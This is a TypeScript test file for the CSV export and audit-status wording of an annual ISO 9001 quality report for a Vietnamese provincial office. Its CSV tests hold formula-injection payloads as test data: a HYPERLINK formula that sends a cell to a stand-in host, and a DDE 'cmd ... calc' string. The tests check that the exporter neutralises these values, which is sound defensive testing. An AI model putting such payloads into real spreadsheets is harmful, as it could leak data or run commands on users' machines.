import { annualQmsReportSummary, type AnnualQmsReportData } from './annual-qms-report-document';
import { annualQmsReportCsv, csvText } from './annual-qms-report.spreadsheet';

const year: AnnualQmsReportData = {
  organisation: 'Ủy ban nhân dân tỉnh Kon Tum',
  year: 2024,
  date: '2024-12-31',
  scope: 'Văn phòng UBND tỉnh',
  standard: 'TCVN ISO 9001:2015',
  previousScope: null,
  firstYear: false,
  documents: [],
  audit: null,
  review: null,
  objectives: [],
  correctiveActions: [],
  signerName: 'Nguyễn Hữu Tháp',
};
const auditLine = (audit: AnnualQmsReportData['audit']) =>
  new Map(annualQmsReportSummary({ ...year, audit })).get('Đánh giá nội bộ');

describe("the yearly report's line on the internal audit", () => {
  const planned = { from: '2024-10-07', to: '2024-10-18', closedOn: null, steps: 2, findings: 0 };

  it('says an audit the year closed before it ended was not completed, not that it is under way', () => {
    expect(auditLine({ ...planned, status: 'not-closed' })).toBe(
      'Không hoàn thành trong năm (kế hoạch từ 07/10/2024 đến 18/10/2024)',
    );
    expect(auditLine({ ...planned, from: null, to: null, status: 'not-closed' })).toBe(
      'Không hoàn thành trong năm (chưa lập kế hoạch)',
    );
  });

  it('says an audit still open is under way, and a closed one when it ended', () => {
    expect(auditLine({ ...planned, status: 'in-progress' })).toBe(
      'Đang thực hiện (kế hoạch từ 07/10/2024 đến 18/10/2024)',
    );
    expect(auditLine({ ...planned, status: 'closed', closedOn: '2024-10-25', findings: 1 })).toBe(
      'Đã thực hiện từ 07/10/2024 đến 18/10/2024, kết thúc ngày 25/10/2024; 2 nội dung được đánh giá, 1 điểm không phù hợp',
    );
    expect(auditLine(null)).toBe('Chưa thực hiện');
  });
});

describe('the yearly report as CSV, opened in a spreadsheet', () => {
  const fields = (data: AnnualQmsReportData) =>
    [
      ...annualQmsReportCsv(data)
        .subarray(3)
        .toString('utf8')
        .matchAll(/"((?:[^"]|"")*)"(?:,|\r\n)/g),
    ].map((m) => m[1].replace(/""/g, '"'));

  it('keeps a typed text that begins like a formula a text, with an apostrophe (it would run in Excel)', () => {
    const typed = '=HYPERLINK("http://example.invalid/?d="&A1,"Xem")';
    expect(fields({ ...year, scope: typed })).toContain(`'${typed}`);
    expect(fields({ ...year, scope: typed })).not.toContain(typed);
    for (const start of ['+', '-', '@', '\t', '\r'])
      expect(csvText(`${start}cmd|' /C calc'!A0`)).toBe(`'${start}cmd|' /C calc'!A0`);
  });

  it('leaves plain numbers and ordinary texts as they are', () => {
    for (const plain of ['-2', '+1,5', '-12.5%', '3', 'Văn phòng UBND tỉnh', 'a=b'])
      expect(csvText(plain)).toBe(plain);
    expect(fields(year)).toContain('Văn phòng UBND tỉnh');
  });
});
